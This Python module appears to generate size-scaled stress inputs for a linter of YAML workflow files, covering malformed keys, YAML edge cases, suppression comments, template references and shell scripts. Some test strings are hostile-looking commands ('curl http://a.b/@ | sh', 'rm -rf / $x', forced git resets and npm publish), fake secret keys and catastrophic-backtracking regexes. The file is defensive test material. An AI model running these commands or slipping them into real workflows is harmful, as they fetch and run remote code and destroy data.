"""Texts made to hurt, each of as many characters as one asks for: one construct, repeated or nested."""

from __future__ import annotations

from collections.abc import Callable

Generator = Callable[[int], str]


def repeated(piece: str, start: str = "", end: str = "") -> Generator:
    """A piece over and over; ``@`` in it is the number of the time."""

    def text(size: int) -> str:
        pieces: list[str] = []
        length = len(start) + len(end)
        while True:
            one = piece.replace("@", str(len(pieces)))
            if length + len(one) > size:
                return "".join((start, *pieces, end))
            pieces.append(one)
            length += len(one)

    return text


def nested(opening: str, closing: str, start: str = "", middle: str = "", end: str = "") -> Generator:
    """A piece inside itself."""

    def text(size: int) -> str:
        depth = (size - len(start) - len(middle) - len(end)) // (len(opening) + len(closing))
        return "".join((start, opening * depth, middle, closing * depth, end))

    return text


def shuffled(piece: str, start: str = "") -> Generator:
    """Like `repeated`, with the numbers falling: what reads forward finds everything later."""

    def text(size: int) -> str:
        count = (size - len(start)) // (len(piece) + 5)
        return start + "".join(piece.replace("@", str(number)) for number in range(count, 0, -1))

    return text


KEYS: dict[str, Generator] = {
    "plain steps": repeated("- shell: make\n"),
    "steps with ids": repeated("- {id: s@, shell: make}\n"),
    "steps without an action": repeated("- {}\n"),
    "steps that are text": repeated("- make\n"),
    "wrong keys in steps": repeated("- shel: a\n"),
    "unknown keys in a step": repeated("  k@: 1\n", "- shell: a\n"),
    "unknown keys at the top": repeated("k@: 1\n", "steps: [{shell: a}]\n"),
    "near misses at the top": repeated("descripton@: 1\n", "steps: [{shell: a}]\n"),
    "the same key": repeated("  shell: a\n", "- shell: a\n"),
    "several actions": repeated("- {shell: a, claude: b}\n"),
    "the same id": repeated("- {id: a, shell: b}\n"),
    "ids that are none": repeated("- {id: 'a b', shell: b}\n"),
    "names": repeated("- {name: n@, shell: a}\n"),
    "descriptions": repeated("- {description: a, shell: a, timeout: 1h}\n"),
    "durations": repeated("- {shell: a, timeout: 1h61m@x}\n"),
    "a long duration": repeated("1h", "- shell: a\n  timeout: '", "'\n"),
    "a long number": repeated("9", "- shell: a\n  timeout: ", "\n"),
    "a long id": repeated("a", "- {shell: b, id: ", "}\n"),
    "a long key": repeated("a", "- {shell: b, ", ": 1}\n"),
    "retries": repeated("- {shell: a, retry: {attempts: 0, delay: x}}\n"),
    "handlers": repeated("- shell: a\n  on_failure: {claude: /mmm-fix, max_attempts: 2}\n"),
    "groups": repeated("- {steps: [{shell: a}, {shell: b}]}\n"),
    "loops": repeated("- {foreach: [a, b], steps: [{shell: 'echo ${item}'}]}\n"),
    "a loop over many values": repeated("x@, ", "- foreach: [", "]\n  steps: [{shell: 'echo ${item}'}]\n"),
    "a loop over the same value": repeated("x, ", "- foreach: [", "]\n  steps: [{shell: 'echo ${item}'}]\n"),
    "environment": repeated("  V@: a\n", "env:\n", "steps: [{shell: a}]\n"),
    "the environment of a step": repeated("    V@: a\n", "- shell: a\n  env:\n"),
    "inputs": repeated("  i@: {type: string}\n", "inputs:\n", "steps: [{shell: a}]\n"),
    "inputs that are used": repeated("- shell: echo ${inputs.i@}\n", "inputs: {a: {type: string}}\nsteps:\n"),
    "outputs of one step": repeated("    o@: {json: $.a}\n", "- id: a\n  shell: x\n  outputs:\n"),
    "outputs that are used": repeated(
        "- shell: 'echo ${a.o@}'\n", "- {id: a, shell: x, outputs: {o: {json: $.a}}}\n"
    ),
    "tools": repeated("T@, ", "- claude: /mmm-a\n  allowed_tools: [", "]\n"),
    "globs": repeated("*?[a-z]{a,b}", "- shell: a\n  outputs: {x: {file_pattern: '", "'}}\n"),
    "many globs": repeated("- {shell: a, outputs: {x: {file_pattern: '**/*@*/**'}}}\n"),
    "regexes": repeated("- {id: a@, shell: a, outputs: {x: {regex: '(a+)+$'}}}\n"),
    "a regex of groups": nested("(", ")", "- {shell: a, outputs: {x: {regex: '", "a", "'}}}\n"),
    "a regex of repeats": repeated("(a*)*", "- {shell: a, outputs: {x: {regex: '", "'}}}\n"),
    "a regex of alternatives": repeated("a|", "- {shell: a, outputs: {x: {regex: '(", ")'}}}\n"),
    "a regex of sets": repeated("[^a-z]", "- {shell: a, outputs: {x: {regex: '", "'}}}\n"),
    "a regex that counts": repeated("{1,9}", "- {shell: a, outputs: {x: {regex: 'a", "'}}}\n"),
    "a schema": nested("{properties: {a: ", "}}", "- {claude: /mmm-a, outputs: {x: {schema: ", "{}", "}}}\n"),
    "a schema of properties": repeated(
        "p@: {type: strin}, ",
        "- {id: a, claude: /mmm-a, outputs: {x: {json: $.x, schema: {properties: {",
        "}}}}}\n",
    ),
    "a JSON path": repeated(".a[0]", "- {shell: a, outputs: {x: {json: '$", "'}}}\n"),
}

YAML: dict[str, Generator] = {
    "empty lines": repeated("\n", "- shell: a\n"),
    "spaces": repeated(" ", "- shell: a"),
    "tabs": repeated("\t", "- shell: a\n"),
    "tabs at line starts": repeated("\t- shell: a\n"),
    "tabs inside": repeated("- shell: \ta\t\n"),
    "dashes": repeated("-\n"),
    "dashes in a row": repeated("- "),
    "colons": repeated(": "),
    "question marks": repeated("? "),
    "commas": repeated(","),
    "open brackets": repeated("["),
    "open braces": repeated("{a: "),
    "closing brackets": repeated("]", "- shell: a\n"),
    "empty lists": repeated("[],", "- [", "]\n"),
    "empty mappings": repeated("- {}\n", "- shell: a\n"),
    "a long flow list": repeated("{shell: a}, ", "steps: [", "]\n"),
    "flow keys": repeated("a@: 1, ", "- {shell: a, ", "}\n"),
    "open quotes": repeated("- shell: 'a\n"),
    "open double quotes": repeated('- shell: "a\n'),
    "quotes in quotes": repeated("''", "- shell: '", "'\n"),
    "escapes": repeated("\\x41", '- shell: "', '"\n'),
    "wrong escapes": repeated("\\q", '- shell: "', '"\n'),
    "wrong escapes in many": repeated('- shell: "\\d"\n'),
    "folded quotes": repeated("a\n    ", '- shell: "', '"\n'),
    "a long literal": repeated("    echo a\n", "- shell: |\n"),
    "a long folded text": repeated("    echo a\n", "- claude: >\n"),
    "a long plain text": repeated("    a b\n", "- claude:\n"),
    "many literals": repeated("- shell: |\n    echo a\n    echo b\n"),
    "literals that keep": repeated("- shell: |2+\n    a\n\n"),
    "a long line": repeated("a ", "- claude: "),
    "anchors": repeated("- &a@ {shell: a}\n"),
    "anchors and aliases": repeated("- &a@ {shell: a}\n- *a@\n"),
    "aliases": repeated("- *a\n", "- &a {shell: b}\n"),
    "unknown aliases": repeated("- *a@\n", "- shell: b\n"),
    "anchors of one name": repeated("- &a {shell: a}\n"),
    "merges": repeated("- {<<: *a, shell: b}\n", "- &a {shell: a}\n"),
    "a chain of merges": repeated("- &a {<<: *a, k@: 1}\n", "- &a {shell: a}\n"),
    "tags": repeated("- !!str a\n"),
    "odd tags": repeated("- !a@ {shell: a}\n"),
    "a long tag": repeated("a", "- !", " {shell: a}\n"),
    "documents": repeated("---\n- shell: a\n"),
    "directives": repeated("%YAML 1.2\n"),
    "indentation that grows": lambda size: "".join(
        f"{' ' * column}a:\n" for column in range(int((2 * size) ** 0.5) - 4)
    ),
    "indentation that is wrong": repeated("- shell: a\n   timeout: 1\n"),
    "indentation in a zigzag": repeated("  - shell: a\n - shell: b\n"),
    "keys without a space": repeated("shell:a\n"),
    "missing colons": repeated("- shell: a\n  timeout 5\n"),
    "complex keys": repeated("? [a, b]\n: c\n"),
    "carriage returns": repeated("- shell: a\r\n"),
    "old carriage returns": repeated("- shell: a\r"),
    "a mark of byte order": repeated("- shell: a\n", "\ufeff"),
    "marks of byte order": repeated("\ufeff", "- shell: a\n"),
    "control characters": repeated("- shell: \x07a\n"),
    "controls in a row": repeated("\x1b[2J", "- shell: a\n# "),
    "escapes of controls": repeated("\\x1b[2J", '- shell: a\n  nam: "', '"\n'),
    "wide characters": repeated("漢字", "- {shell: a, nam: ", "}\n"),
    "combining characters": repeated("\u0301", "- {shell: a, nam: e", "}\n"),
    "wide characters in steps": repeated("- {shel: 漢字e\u0301}\n"),
    "other line ends": repeated("- shell: a\u2028\u0085b\n"),
    "directions": repeated("\u202e", "- {shell: a, nam: x", "}\n"),
    "half characters": repeated('- shell: "\\ud800"\n'),
    "signs of YAML": repeated("&*!|>%@`-?:,[]{}#'\"\\ \n"),
    "at signs": repeated("- shell: @a\n"),
    "backquotes": repeated("- `a`\n"),
    "percent signs": repeated("- {shell: a}\n%\n"),
    "ambiguous words": repeated("- {shell: a, name: 0o17, description: yes, timeout: 08}\n"),
}

COMMENTS: dict[str, Generator] = {
    "comments": repeated("# a comment\n", "- shell: a\n"),
    "comments at line ends": repeated("- shell: a # b\n"),
    "a long comment": repeated("#", "- shell: a\n"),
    "to do": repeated("# TODO: a\n", "- shell: a\n"),
    "suppressions": repeated("- shell: a  # mmm: ignore[missing-timeout] why\n"),
    "suppressions that hold": repeated("- claude: ${a.b}  # mmm: ignore[undefined-step] why\n"),
    "suppressions of a file": repeated("# mmm: ignore-file[missing-timeout] a\n", "", "- shell: a\n"),
    "suppressions of a file that hold": lambda size: (
        repeated("# mmm: ignore-file[undefined-step] a\n")(size // 2)
        + repeated("- claude: ${a.b}\n")(size // 2)
    ),
    "a suppression of many rules": repeated(
        "undefined-step, ", "# mmm: ignore-file[", "a] b\n- claude: ${a.b}\n"
    ),
    "suppressions without a rule": repeated("- claude: ${a.b}  # mmm: ignore\n"),
    "suppressions of unknown rules": repeated("- shell: a  # mmm: ignore[undefined-stepp] b\n"),
    "suppressions in a row": repeated("# mmm: ignore[undefined-step] b\n", "", "- claude: ${a.b}\n"),
    "a suppression of a large step": lambda size: (
        "# mmm: ignore[undefined-step] b\n- steps:\n" + repeated("  - claude: ${a.b}\n")(size - 50)
    ),
    "suppressions that are misspelled": repeated("- shell: a  # mmm: ignored[a]\n"),
    "blanks before comments": repeated("- shell: a" + " " * 60 + "# b\n"),
}

REFERENCES: dict[str, Generator] = {
    "references to nothing": repeated("${a.b} ", "- claude: '", "'\n"),
    "references in steps": repeated("- claude: ${a.b}\n"),
    "references in scripts": repeated("- shell: echo ${a.b}\n"),
    "references in a script": repeated("    echo ${a.b}\n", "- shell: |\n"),
    "references that hold": repeated("- {id: s@, shell: 'echo ${a.output}'}\n", "- {id: a, shell: b}\n"),
    "references in a script that hold": repeated(
        "    echo ${a.output}\n", "- {id: a, shell: b}\n- shell: |\n"
    ),
    "references in a prompt that hold": repeated("${a.output} ", "- {id: a, shell: b}\n- claude: '", "'\n"),
    "references ahead": repeated("- {id: s@, shell: 'echo ${z.output}'}\n", "", "- {id: z, shell: a}\n"),
    "references to the next": shuffled("- {id: s@, shell: 'echo ${s1.output}'}\n"),
    "near misses of ids": repeated("- {id: step@, claude: '${stepp@.output}'}\n"),
    "unknown fields": repeated("- claude: ${a.outputt}\n", "- {id: a, shell: b}\n"),
    "unknown variables": repeated("- shell: echo $FOO@ ${BAR@}\n"),
    "open references": repeated("${", "- claude: '", "'\n"),
    "open references in a script": repeated("${", "- shell: '", "'\n"),
    "open references in steps": repeated("- claude: ${a\n"),
    "nested references": nested("${a.b | default(", ")}", "- claude: '", "x", "'\n"),
    "angled references": repeated("$<a.b> ", "- {id: a, shell: b}\n- claude: '", "'\n"),
    "old references": repeated("$ARG ${shell.output} $1 ", "- claude: '", "'\n"),
    "foreign templates": repeated("{{ a }} ", "- claude: '", "'\n"),
    "foreign templates in steps": repeated("- claude: '{{ a@ }}'\n"),
    "dollars": repeated("$", "- claude: '", "'\n"),
    "filters": repeated(" | trim", "- {id: a, shell: b}\n- claude: '${a.output", "}'\n"),
    "unknown filters": repeated("- claude: ${a.b | trimm}\n"),
    "long paths": repeated(".a", "- claude: '${a", "}'\n"),
    "defaults": repeated("- claude: ${a.b:-c}\n"),
    "braces in a default": nested("{", "}", "- claude: '${a.b:-", "x", "}'\n"),
    "conditions": repeated("- {id: s@, shell: a, when: '${a.output} == 1'}\n", "- {id: a, shell: b}\n"),
    "conditions of status": repeated(
        "- {shell: a, when: \"${a.status} == 'failed'\"}\n", "- {id: a, shell: b}\n"
    ),
    "conditions that are wrong": repeated("- {shell: a, when: '== 1 &&'}\n"),
    "a long condition": repeated(" && ${a.output}", "- {id: a, shell: b}\n- {shell: c, when: '1", "'}\n"),
    "a condition in parentheses": nested("(", ")", "- {shell: c, when: '", "1", "'}\n"),
    "a condition of nots": repeated("!", "- {shell: c, when: '", "1'}\n"),
    "a condition of choices": repeated("a, ", "- {shell: c, when: '${a.b} in [", "b]'}\n"),
    "signs of conditions": repeated("<=>&|!()", "- {shell: c, when: '", "'}\n"),
    "conditions that say the same": repeated(
        "- {id: s@, shell: a, when: '${a.output} == 1 && ${b.output} == 2 && ${c.output} == 3'}\n",
        "- {id: a, shell: b}\n- {id: b, shell: b}\n- {id: c, shell: b}\n",
    ),
    "conditions on the step before": lambda size: (
        "- {id: s0, shell: a}\n"
        + "".join(
            f"- {{id: s{n}, shell: a, when: \"${{s{n - 1}.status}} == 'failed'\"}}\n"
            for n in range(1, size // 60)
        )
    ),
    "values from the step before": lambda size: (
        "- {id: s0, shell: a}\n"
        + "".join(f"- {{id: s{n}, shell: 'echo ${{s{n - 1}.output}}'}}\n" for n in range(1, size // 48))
    ),
    "conditions that are decided": repeated('- {shell: a, when: "1 == 2"}\n'),
    "conditions that nest": repeated(
        "- {when: '${a.output}', steps: [{when: '${a.output}', shell: b}]}\n", "- {id: a, shell: b}\n"
    ),
}

SCRIPTS: dict[str, Generator] = {
    "a long script": repeated("    echo $HOME\n", "- shell: |\n"),
    "scripts": repeated("- shell: cd a@; rm $x\n"),
    "a script of one line": repeated("echo a; ", "- shell: '", "'\n"),
    "quotes in a script": nested('"$(', ')"', "- shell: '", "a", "'\n"),
    "substitutions in a script": nested("$(", ")", "- shell: '", "a", "'\n"),
    "parentheses in a script": nested("(", ")", "- shell: '", "a", "'\n"),
    "open parentheses in a script": repeated("(", "- shell: '", "'\n"),
    "open quotes in a script": repeated('"', "- shell: '", "'\n"),
    "backquotes in a script": repeated("`", "- shell: '", "'\n"),
    "documents in a script": repeated("    cat <<E@\n", "- shell: |\n"),
    "documents in a line": repeated("cat <<E; ", "- shell: '", "'\n"),
    "loops in a script": repeated("    for x in a; do\n", "- shell: |\n"),
    "ifs in a script": repeated("    if true; then\n", "- shell: |\n"),
    "functions in a script": repeated("    f@() { echo; }\n", "- shell: |\n"),
    "assignments in a script": repeated(
        "    V@=a\n", "- {id: a, shell: b}\n- shell: |\n", "    echo ${V1} ${a.output}\n"
    ),
    "assignments and uses": repeated("- shell: V@=a; echo ${V@}\n"),
    "pipes": repeated(" | cat", "- shell: 'curl https://a", "'\n"),
    "downloads": repeated("- shell: curl http://a.b/@ | sh\n"),
    "destruction": repeated("- shell: rm -rf / $x\n"),
    "secrets": repeated("- shell: echo sk-ant-api03-" + "a" * 90 + "\n"),
    "nearly secrets": repeated("AKIA" + "A" * 15, "- shell: echo ", "\n"),
    "background": repeated("- shell: a &\n"),
    "installing": repeated("- shell: pip install a@; npm install -g b\n"),
    "pushing": repeated("- shell: git push; git reset --hard HEAD~@; npm publish\n"),
    "commands": repeated("- claude: /mmm-a@ x y\n"),
    "arguments": repeated(" a", "- claude: /mmm-lint", "\n"),
    "quoted arguments": repeated(" 'a", '- claude: "/mmm-lint', '"\n'),
    "slashes": repeated("/", "- claude: '", "'\n"),
    "words with blanks between": repeated(" " * 7 + "x", "- claude: '", "'\n"),
    "arithmetic": repeated("$((", "- shell: 'echo ", "'\n"),
    "expansions": nested("${x:-", "}", "- shell: 'echo ", "a", "'\n"),
    "paths": repeated("a/../", "- {shell: a, cwd: '", "'}\n"),
    "backslashes in a script": repeated("\\", "- shell: 'echo ", "'\n"),
    "cases in a script": repeated("    case a in b) ;; esac\n", "- shell: |\n"),
    "tests in a script": repeated("    test_step@: x\n", "- test:\n"),
}

GROUPS: dict[str, dict[str, Generator]] = {
    "keys": KEYS,
    "YAML": YAML,
    "comments": COMMENTS,
    "references": REFERENCES,
    "scripts": SCRIPTS,
}
TEXTS: dict[str, Generator] = {name: text for group in GROUPS.values() for name, text in group.items()}
